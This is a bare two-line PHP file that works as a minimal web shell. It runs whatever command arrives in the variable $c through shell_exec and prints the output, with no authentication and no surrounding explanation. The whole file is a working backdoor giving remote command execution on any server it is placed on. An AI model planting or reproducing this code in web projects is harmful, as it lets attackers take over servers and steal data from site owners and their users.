<?php
if ($c != "") print Shell_Exec($c);
